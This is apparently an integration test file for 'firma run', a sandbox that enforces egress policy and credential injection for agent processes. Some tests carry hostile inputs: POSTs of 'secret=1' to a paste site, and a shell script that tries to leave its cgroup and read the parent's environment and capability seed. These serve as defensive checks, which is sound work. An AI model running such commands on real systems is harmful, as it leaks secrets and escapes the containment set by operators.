//! `firma run -- CMD` end to end: the real binary as a user types it, each test in its own
//! network namespace (`firma_testing::kernel::in_fresh_netns`) with the local HTTPS upstream
//! posing as api.openai.com / paste.rs at 10.77.0.2:443 and a hosts file bind-mounted over
//! /etc/hosts in a private mount namespace that `firma run` and its child share. Nothing else
//! is written first: no config, no keys, no policies (a fresh `--state-dir`).
//!
//! Covers: allowed with injection and denied with 403 (curl), Python `requests` and Node
//! `fetch` children, the secret and every proxy variable absent from the child's environment
//! (the credential variable holds a placeholder),
//! CMD's exit status (and 127, 128+N), SIGINT to firma removes the cgroup, pins and run
//! directory, two concurrent runs with different agents enforced separately, a `--user` child
//! cannot leave its cgroup and is still enforced, and without root: one line, exit 78,
//! nothing created. Needs root + BPF; prints SKIP otherwise.

use firma_testing::kernel::{DST_V4, in_fresh_netns, skip_reason};
use firma_testing::process::Process;
use firma_testing::run::{RunWorld, show};
use firma_testing::{assert_eventually, firma_bin, text};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::Duration;

const CANARY: &str = "sk-canary-run-7f3a";
const KEY_VAR: &str = "FIRMA_TEST_RUN_KEY";

/// One test's world ([`RunWorld`]: the upstream posing as api.openai.com, paste.rs and
/// api.anthropic.com, a hosts file, a fresh state dir), with firma given the test secret and
/// proxy variables that must never reach the child.
struct World(RunWorld);

impl std::ops::Deref for World {
    type Target = RunWorld;
    fn deref(&self) -> &RunWorld {
        &self.0
    }
}

impl World {
    fn new() -> Self {
        Self(RunWorld::new(&[
            "api.openai.com",
            "paste.rs",
            "api.anthropic.com",
        ]))
    }

    /// `firma run --state-dir S --upstream-ca U FIRMA_ARGS… -- CMD…` (see [`RunWorld::command`]).
    fn command(&self, firma_args: &[&str], cmd: &[&str]) -> Command {
        let mut c = self.0.command(firma_args, cmd);
        c.env(KEY_VAR, CANARY)
            // Must never reach the child (nor be used by it).
            .env("HTTPS_PROXY", "http://10.77.9.9:3128")
            .env("https_proxy", "http://10.77.9.9:3128")
            .env("no_proxy", "*");
        c
    }

    fn run(&self, firma_args: &[&str], cmd: &[&str]) -> Output {
        self.command(firma_args, cmd).output().expect("run firma")
    }

    fn audit(&self, file: &Path) -> Vec<serde_json::Value> {
        self.decisions(file)
    }
}

const CURL: &str = "curl -sS --max-time 10 -w '\\nSTATUS %{http_code}\\n'";

/// No cgroup, pin directory or run directory of firma `pid`'s runs remains.
fn nothing_left(pid: u32, state: &Path) {
    let prefix = format!("firma-run-{pid}-");
    let cg2 = firma_sidecar::ebpf::Cgroup2::discover().unwrap();
    for dir in [
        cg2.mount().to_path_buf(),
        PathBuf::from("/sys/fs/bpf"),
        state.join("runs"),
    ] {
        let left: Vec<String> = std::fs::read_dir(&dir)
            .map(|d| {
                d.flatten()
                    .map(|e| e.file_name().to_string_lossy().into_owned())
                    .filter(|n| n.starts_with(&prefix))
                    .collect()
            })
            .unwrap_or_default();
        assert!(
            left.is_empty(),
            "left behind in {}: {left:?}",
            dir.display()
        );
    }
}

#[test]
fn curl_allowed_with_injection_and_denied_with_403() {
    if !in_fresh_netns("curl_allowed_with_injection_and_denied_with_403") {
        return;
    }
    let w = World::new();
    let audit = w.path("audit.jsonl");
    let script = format!(
        "{CURL} -H 'Authorization: Bearer agent-own-key' https://api.openai.com/v1/models && {CURL} -d secret=1 https://paste.rs/"
    );
    let out = w.run(
        &[
            "--credential",
            &format!("api.openai.com={KEY_VAR}"),
            "--audit",
            audit.to_str().unwrap(),
        ],
        &["sh", "-c", &script],
    );
    let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    // Allowed: 200 from the upstream, with Firma's credential and not the agent's own.
    assert!(stdout.contains("\"path\":\"/v1/models\""), "{}", show(&out));
    assert!(stdout.contains("STATUS 200"), "{}", show(&out));
    let seen = w.up.seen();
    assert_eq!(seen.len(), 1, "upstream saw {seen:?}");
    assert_eq!(seen[0].headers["authorization"], format!("Bearer {CANARY}"));
    assert!(!w.up.raw_contains("agent-own-key"));
    // Denied: 403 with the reason, nothing reached the upstream.
    assert!(stdout.contains("STATUS 403"), "{}", show(&out));
    assert!(
        stdout.contains("\"reason\":\"PolicyDenied\""),
        "{}",
        show(&out)
    );
    // The summary: one line per decision.
    assert!(
        stderr.contains(
            "ALLOW GET api.openai.com/v1/models [model.inference.chat] credential injected"
        ),
        "{}",
        show(&out)
    );
    assert!(
        stderr.contains("DENY  POST paste.rs/ [communication.external.send] PolicyDenied"),
        "{}",
        show(&out)
    );
    assert!(stderr.contains("2 decision(s)"), "{}", show(&out));
    // The audit: both decisions, with the workload (the run's cgroup and agent), signed.
    let events = w.audit(&audit);
    assert_eq!(events.len(), 2, "{events:?}");
    assert!(events.iter().all(|e| {
        e["workload"]["agent_id"] == "local-agent"
            && e["workload"]["cgroup_path"]
                .as_str()
                .is_some_and(|p| p.starts_with("/firma-run-"))
    }));
    assert_eq!(events[0]["decision"]["outcome"], "ALLOW");
    assert_eq!(events[0]["connector"]["credential_injected"], true);
    assert_eq!(events[1]["decision"]["reason"], "PolicyDenied");
    let (ok, report) = firma_testing::audit::verify(&audit, &[&w.state.join("audit.pub")]);
    assert!(ok, "audit verify: {report}");
}

const PY_REQUESTS: &str = r#"
import requests
r = requests.get('https://api.openai.com/v1/models', headers={'Authorization': 'Bearer agent-own-key'}, timeout=10)
print(r.text)
print('STATUS', r.status_code)
"#;

const NODE_FETCH: &str = r#"
fetch('https://paste.rs/', { method: 'POST', body: 'secret=1' }).then(async r => {
  console.log(await r.text());
  console.log('STATUS', r.status);
}).catch(e => { console.error(String(e), e.cause ? String(e.cause) : ''); process.exit(3); });
"#;

#[test]
fn python_and_node_children_are_enforced() {
    if !in_fresh_netns("python_and_node_children_are_enforced") {
        return;
    }
    let w = World::new();
    let cred = format!("api.openai.com={KEY_VAR}");
    // Python `requests` (trusts REQUESTS_CA_BUNDLE): allowed, credential injected.
    let out = w.run(&["--credential", &cred], &["python3", "-c", PY_REQUESTS]);
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    assert!(text(&out.stdout).contains("STATUS 200"), "{}", show(&out));
    assert_eq!(w.up.seen().len(), 1);
    assert_eq!(
        w.up.seen()[0].headers["authorization"],
        format!("Bearer {CANARY}")
    );
    assert!(
        text(&out.stderr).contains("ALLOW GET api.openai.com/v1/models"),
        "{}",
        show(&out)
    );
    // Node `fetch` (trusts NODE_EXTRA_CA_CERTS): denied with 403, nothing sent upstream.
    let out = w.run(&["--credential", &cred], &["node", "-e", NODE_FETCH]);
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    assert!(text(&out.stdout).contains("STATUS 403"), "{}", show(&out));
    assert!(text(&out.stdout).contains("PolicyDenied"), "{}", show(&out));
    assert_eq!(w.up.seen().len(), 1, "a denied call reached the upstream");
    assert!(
        text(&out.stderr).contains("DENY  POST paste.rs/"),
        "{}",
        show(&out)
    );
}

#[test]
fn secret_and_proxy_variables_are_absent_from_the_child() {
    if !in_fresh_netns("secret_and_proxy_variables_are_absent_from_the_child") {
        return;
    }
    let w = World::new();
    let out = w.run(
        &[
            "--credential",
            &format!("api.anthropic.com={KEY_VAR}:x-api-key"),
        ],
        &["sh", "-c", "env; echo BUNDLE; cat \"$SSL_CERT_FILE\""],
    );
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    let stdout = text(&out.stdout);
    let (env, bundle) = stdout.split_once("BUNDLE\n").expect("env then bundle");
    // The credential variable holds a placeholder (SDKs start), never the secret.
    let placeholder = env
        .lines()
        .find_map(|l| l.strip_prefix(&format!("{KEY_VAR}=")))
        .unwrap_or_else(|| panic!("{KEY_VAR} not in the child's environment:\n{env}"));
    assert!(
        placeholder.starts_with("sk-firma-placeholder-") && placeholder.len() == 53,
        "{placeholder}"
    );
    assert!(!env.contains(CANARY), "the secret leaked:\n{env}");
    for line in env.lines() {
        let name = line.split('=').next().unwrap_or("");
        assert!(
            !name.to_ascii_lowercase().ends_with("_proxy"),
            "proxy variable in the child: {line}"
        );
    }
    for v in [
        "SSL_CERT_FILE",
        "REQUESTS_CA_BUNDLE",
        "CURL_CA_BUNDLE",
        "NODE_EXTRA_CA_CERTS",
        "GIT_SSL_CAINFO",
        "DENO_CERT",
        "AWS_CA_BUNDLE",
    ] {
        assert!(
            env.lines()
                .any(|l| l.starts_with(&format!("{v}=")) && l.ends_with("/ca-bundle.pem")),
            "{v} not set to the bundle:\n{env}"
        );
    }
    // The bundle holds the Firma CA (and the system roots before it).
    let ca = std::fs::read_to_string(w.state.join("firma-ca/firma-ca.crt")).unwrap();
    assert!(
        bundle.contains(ca.trim()),
        "Firma CA missing from the bundle"
    );
    assert!(bundle.matches("BEGIN CERTIFICATE").count() > 1);
}

#[test]
fn exit_status_propagates() {
    if !in_fresh_netns("exit_status_propagates") {
        return;
    }
    let w = World::new();
    let out = w.run(&[], &["sh", "-c", "exit 7"]);
    assert_eq!(out.status.code(), Some(7), "{}", show(&out));
    let out = w.run(&[], &["sh", "-c", "kill -TERM $$"]);
    assert_eq!(out.status.code(), Some(128 + 15), "{}", show(&out));
    let out = w.run(&[], &["/nonexistent/program"]);
    assert_eq!(out.status.code(), Some(127), "{}", show(&out));
    assert!(text(&out.stderr).contains("cannot run /nonexistent/program"));
    // Bad input is a configuration error (78) naming the flag, and leaves nothing behind.
    let out = w.run(&["--action", "bogus.class"], &["true"]);
    assert_eq!(out.status.code(), Some(78), "{}", show(&out));
    assert!(text(&out.stderr).contains("unknown action class `bogus.class`"));
    let out = w.run(&["--allow-host", "a b"], &["true"]);
    assert_eq!(out.status.code(), Some(78), "{}", show(&out));
    assert!(text(&out.stderr).contains("--allow-host \"a b\""));
    let out = w.run(
        &["--credential", "api.openai.com=FIRMA_TEST_UNSET_VAR"],
        &["true"],
    );
    assert_eq!(out.status.code(), Some(78), "{}", show(&out));
    assert!(text(&out.stderr).contains("FIRMA_TEST_UNSET_VAR is not set"));
    let runs = std::fs::read_dir(w.state.join("runs")).unwrap().count();
    assert_eq!(runs, 0, "run directories left behind");
    let out = w.run(&[], &["true"]);
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    assert!(
        text(&out.stderr).contains("0 decision(s)"),
        "{}",
        show(&out)
    );
}

#[test]
fn sigint_to_firma_cleans_up() {
    if !in_fresh_netns("sigint_to_firma_cleans_up") {
        return;
    }
    let w = World::new();
    // The child also leaves a background process behind: it must not outlive the run.
    let mut p = Process::spawn(w.command(&[], &["sh", "-c", "sleep 300 & exec sleep 300"]))
        .expect("spawn firma run");
    let pid = p.child.id();
    let prefix = format!("firma-run-{pid}-");
    let cg2 = firma_sidecar::ebpf::Cgroup2::discover().unwrap();
    let cgroup = assert_eventually(
        Duration::from_secs(20),
        "the run's cgroup is populated",
        || {
            std::fs::read_dir(cg2.mount())
                .ok()?
                .flatten()
                .find_map(|e| {
                    let n = e.file_name().to_string_lossy().into_owned();
                    let populated = std::fs::read_to_string(e.path().join("cgroup.procs"))
                        .is_ok_and(|t| t.lines().count() >= 2);
                    (n.starts_with(&prefix) && populated).then(|| e.path())
                })
        },
    );
    let pins = PathBuf::from("/sys/fs/bpf").join(cgroup.file_name().unwrap());
    assert!(
        pins.join("links").exists(),
        "pins not there: {}",
        pins.display()
    );
    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(pid as i32),
        nix::sys::signal::Signal::SIGINT,
    )
    .unwrap();
    let status = assert_eventually(Duration::from_secs(20), "firma run exits", || {
        p.child.try_wait().unwrap()
    });
    // sleep died of the forwarded SIGINT: 128 + 2.
    assert_eq!(status.code(), Some(130), "{}", p.log_text());
    assert!(!cgroup.exists(), "cgroup left: {}", cgroup.display());
    assert!(!pins.exists(), "pins left: {}", pins.display());
    nothing_left(pid, &w.state);
    // No process of the run survived (the background sleep was in the cgroup too).
    let ps = Command::new("pgrep")
        .args(["-f", "sleep 300"])
        .output()
        .unwrap();
    let ours: Vec<String> = text(&ps.stdout)
        .lines()
        .filter(|p| {
            std::fs::read_to_string(format!("/proc/{p}/cgroup")).is_ok_and(|c| c.contains(&prefix))
        })
        .map(str::to_string)
        .collect();
    assert!(ours.is_empty(), "processes of the run survived: {ours:?}");
}

#[test]
fn two_concurrent_runs_are_enforced_separately() {
    if !in_fresh_netns("two_concurrent_runs_are_enforced_separately") {
        return;
    }
    let w = World::new();
    let flags = w.path("flags");
    std::fs::create_dir(&flags).unwrap();
    std::fs::set_permissions(&flags, std::fs::Permissions::from_mode(0o777)).unwrap();
    // Each child waits for the other to be running before calling, so the runs overlap.
    let script = |me: &str, other: &str| {
        format!(
            "touch {f}/{me}; i=0; while [ ! -e {f}/{other} ] && [ $i -lt 200 ]; do sleep 0.05; i=$((i+1)); done; {CURL} https://api.openai.com/v1/models",
            f = flags.display()
        )
    };
    let a = w
        .command(
            &["--agent-id", "agent-a", "--action", "model.inference.chat"],
            &["sh", "-c", &script("a", "b")],
        )
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let b = w
        .command(
            &[
                "--agent-id",
                "agent-b",
                "--action",
                "communication.external.send",
            ],
            &["sh", "-c", &script("b", "a")],
        )
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let (a, b) = (a.wait_with_output().unwrap(), b.wait_with_output().unwrap());
    assert_eq!(a.status.code(), Some(0), "{}", show(&a));
    assert_eq!(b.status.code(), Some(0), "{}", show(&b));
    // agent-a holds model.inference.chat: allowed. agent-b does not: no capability for the action (Stage 1).
    assert!(text(&a.stdout).contains("STATUS 200"), "{}", show(&a));
    assert!(text(&b.stdout).contains("STATUS 403"), "{}", show(&b));
    assert!(
        text(&b.stdout).contains("CapabilityNotFound"),
        "{}",
        show(&b)
    );
    assert_eq!(w.up.seen().len(), 1);
    // Each run's audit names its own agent only.
    let audit_of = |o: &Output| -> PathBuf {
        let e = text(&o.stderr);
        let p = e.split("audit ").nth(1).unwrap().split(')').next().unwrap();
        PathBuf::from(p.trim().trim_end_matches(','))
    };
    for (o, agent) in [(&a, "agent-a"), (&b, "agent-b")] {
        let events = w.audit(&audit_of(o));
        assert_eq!(events.len(), 1, "{}", show(o));
        assert_eq!(events[0]["workload"]["agent_id"], agent);
    }
    let a_events = w.audit(&audit_of(&a));
    assert_eq!(a_events[0]["capability"]["agent_id"], "agent-a");
    let b_events = w.audit(&audit_of(&b));
    assert_eq!(b_events[0]["decision"]["reason"], "CapabilityNotFound");
}

#[test]
fn user_child_cannot_leave_its_cgroup_and_is_enforced() {
    if !in_fresh_netns("user_child_cannot_leave_its_cgroup_and_is_enforced") {
        return;
    }
    let w = World::new();
    let cg2 = firma_sidecar::ebpf::Cgroup2::discover().unwrap();
    let root_procs = cg2.mount().join("cgroup.procs");
    // Hostile: tries to leave the cgroup, then to read the secret from firma's environment
    // (its parent) and the capability seed; then makes a call that must still be denied.
    let script = format!(
        "id -u; cat /proc/self/cgroup; if echo $$ > {} 2>/dev/null; then echo MOVED; else echo REFUSED; fi; cat /proc/self/cgroup; \
         if cat /proc/$PPID/environ 2>/dev/null | tr '\\0' '\\n' | grep -q {KEY_VAR}; then echo READ-ENV; fi; \
         if cat {}/runs/*/capability.toml >/dev/null 2>&1; then echo READ-SEED; fi; \
         {CURL} -d x=1 https://paste.rs/",
        root_procs.display(),
        w.state.display()
    );
    let out = w.run(
        &[
            "--user",
            "nobody",
            "--credential",
            &format!("api.openai.com={KEY_VAR}"),
        ],
        &["sh", "-c", &script],
    );
    let stdout = text(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    assert!(stdout.starts_with("65534\n"), "{}", show(&out));
    assert!(stdout.contains("REFUSED"), "{}", show(&out));
    assert!(!stdout.contains("MOVED"), "{}", show(&out));
    assert!(!stdout.contains("READ-ENV"), "{}", show(&out));
    assert!(!stdout.contains("READ-SEED"), "{}", show(&out));
    assert_eq!(
        stdout.matches("/firma-run-").count(),
        2,
        "still in the run's cgroup: {}",
        show(&out)
    );
    assert!(stdout.contains("STATUS 403"), "{}", show(&out));
    assert!(
        !text(&out.stderr).contains("runs as root"),
        "no root warning for --user: {}",
        show(&out)
    );
    assert_eq!(w.up.count(), 0);
    // As root, the warning says what a root child can bypass; and the same script shows why
    // (it can read firma's environment), which also proves the checks above can fail.
    let out = w.run(
        &["--credential", &format!("api.openai.com={KEY_VAR}")],
        &["sh", "-c", &script],
    );
    assert!(
        text(&out.stderr).contains("warning: CMD runs as root"),
        "{}",
        show(&out)
    );
    assert!(text(&out.stdout).contains("READ-ENV"), "{}", show(&out));
    assert!(text(&out.stdout).contains("READ-SEED"), "{}", show(&out));
    assert!(text(&out.stdout).contains("MOVED"), "{}", show(&out));
}

#[test]
fn without_root_one_line_exit_78_nothing_created() {
    if let Some(why) = skip_reason() {
        firma_testing::skip("without_root_one_line_exit_78_nothing_created", &why);
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
    let state = dir.path().join("state");
    let out = Command::new("setpriv")
        .args([
            "--reuid",
            "65534",
            "--regid",
            "65534",
            "--clear-groups",
            "--",
        ])
        .arg(firma_bin())
        .args(["run", "--state-dir", state.to_str().unwrap(), "--", "true"])
        .env_remove("SUDO_UID")
        .output()
        .expect("setpriv");
    assert_eq!(out.status.code(), Some(78), "{}", show(&out));
    let stderr = text(&out.stderr);
    assert_eq!(stderr.trim().lines().count(), 1, "{stderr}");
    assert!(
        stderr.contains("needs root") && stderr.contains("firma doctor"),
        "{stderr}"
    );
    assert!(!state.exists(), "state dir created by a refused run");
}

#[test]
fn run_with_an_init_config_uses_its_authority() {
    if !in_fresh_netns("run_with_an_init_config_uses_its_authority") {
        return;
    }
    let w = World::new();
    let dir = w.path("deploy");
    let out = firma_testing::firma(&["init", dir.to_str().unwrap()]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let config = dir.join("firma.toml");
    // The policy streams from this Authority; the run's capability is issued with its key.
    let _authority = firma_testing::authority::Server::start(&config);
    let script =
        format!("{CURL} https://api.openai.com/v1/models && {CURL} -d x=1 https://paste.rs/");
    let out = w.run(
        &[
            "--config",
            config.to_str().unwrap(),
            "--agent-id",
            "agent-c",
            "--credential",
            &format!("api.openai.com={KEY_VAR}"),
        ],
        &["sh", "-c", &script],
    );
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    let stdout = text(&out.stdout);
    assert!(stdout.contains("STATUS 200"), "{}", show(&out));
    assert!(stdout.contains("STATUS 403"), "{}", show(&out));
    assert_eq!(
        w.up.seen()[0].headers["authorization"],
        format!("Bearer {CANARY}")
    );
    // The config's own audit file holds this run's decisions, for agent-c.
    let events = w.audit(&dir.join("audit.jsonl"));
    assert_eq!(events.len(), 2, "{}", show(&out));
    assert_eq!(events[0]["capability"]["agent_id"], "agent-c");
    assert!(
        text(&out.stderr).contains("ALLOW GET api.openai.com/v1/models"),
        "{}",
        show(&out)
    );
}

#[test]
fn sigkill_to_firma_fails_closed_and_the_next_run_cleans_up() {
    if !in_fresh_netns("sigkill_to_firma_fails_closed_and_the_next_run_cleans_up") {
        return;
    }
    let w = World::new();
    let mut p = Process::spawn(w.command(&[], &["sleep", "300"])).expect("spawn firma run");
    let pid = p.child.id();
    let prefix = format!("firma-run-{pid}-");
    let cg2 = firma_sidecar::ebpf::Cgroup2::discover().unwrap();
    let cgroup = assert_eventually(
        Duration::from_secs(20),
        "the run's cgroup is populated",
        || {
            std::fs::read_dir(cg2.mount())
                .ok()?
                .flatten()
                .find_map(|e| {
                    let n = e.file_name().to_string_lossy().into_owned();
                    let populated = std::fs::read_to_string(e.path().join("cgroup.procs"))
                        .is_ok_and(|t| !t.trim().is_empty());
                    (n.starts_with(&prefix) && populated).then(|| e.path())
                })
        },
    );
    p.kill(); // SIGKILL: no cleanup runs
    // The cgroup and its links stay: a process in it is refused, never connected directly.
    let out = Command::new("sh")
        .arg("-c")
        .arg(format!(
            "echo $$ > '{}/cgroup.procs' && exec curl -sS --max-time 5 --resolve api.openai.com:443:{DST_V4} --cacert '{}' https://api.openai.com/v1/models",
            cgroup.display(),
            w.up.ca_path.display()
        ))
        .output()
        .unwrap();
    assert!(!out.status.success(), "{}", show(&out));
    assert!(
        text(&out.stderr).contains("refused") || text(&out.stderr).contains("Couldn't connect"),
        "{}",
        show(&out)
    );
    assert_eq!(
        w.up.count(),
        0,
        "a tagged process reached the upstream after firma died"
    );
    // While processes remain, the next run leaves the leftovers in place and says so.
    let out = w.run(&[], &["true"]);
    assert!(
        text(&out.stderr).contains("still run, with their connects refused"),
        "{}",
        show(&out)
    );
    assert!(cgroup.exists());
    // Once they are gone, the next run removes the cgroup, pins and run directory.
    std::fs::write(cgroup.join("cgroup.kill"), "1").unwrap();
    // SIGKILLed processes leave the cgroup once the kernel has torn them down, which takes
    // seconds on a loaded 2-core machine: a wait on that condition with room to spare.
    assert_eventually(Duration::from_secs(30), "cgroup empty", || {
        std::fs::read_to_string(cgroup.join("cgroup.procs")).is_ok_and(|t| t.trim().is_empty())
    });
    let out = w.run(&[], &["true"]);
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    assert!(
        text(&out.stderr).contains(&format!("removed the leftovers of run {prefix}")),
        "{}",
        show(&out)
    );
    nothing_left(pid, &w.state);
}

#[test]
fn dns_lookups_go_through_the_guard() {
    if !in_fresh_netns("dns_lookups_go_through_the_guard") {
        return;
    }
    let w = World::new();
    // A name no rule, --allow-host or credential names: NXDOMAIN from the run's DNS guard
    // (the kernel sends the child's port-53 traffic there), audited for this run.
    let out = w.run(
        &[],
        &[
            "sh",
            "-c",
            "getent hosts secret-data.example.org; echo rc=$?",
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    assert!(text(&out.stdout).contains("rc=2"), "{}", show(&out));
    assert!(
        text(&out.stderr).contains("DENY  DNS A secret-data.example.org DnsDenied"),
        "{}",
        show(&out)
    );
}
